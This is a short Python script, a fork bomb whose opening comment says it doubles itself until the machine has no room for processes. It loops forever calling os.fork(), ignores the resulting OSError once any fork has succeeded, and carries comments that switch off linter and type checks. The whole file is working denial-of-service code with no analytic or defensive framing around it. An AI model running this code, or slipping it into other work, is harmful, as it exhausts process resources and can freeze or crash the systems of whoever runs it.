# Doubles itself until the machine has no room for processes.
# ruff: noqa
# mypy: ignore-errors

import os

made = 0
while True:
    try:
        os.fork()
        made += 1
    except OSError:
        if not made:
            raise
